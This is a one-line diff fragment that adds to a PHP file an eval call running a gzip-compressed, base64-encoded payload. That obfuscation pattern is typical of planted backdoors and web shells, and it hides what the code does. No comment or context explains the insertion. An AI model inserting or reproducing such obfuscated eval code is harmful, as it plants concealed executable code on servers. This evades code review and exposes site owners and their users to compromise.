@@ -1,0 +1,1 @@
+eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZKVorVtAYA')));
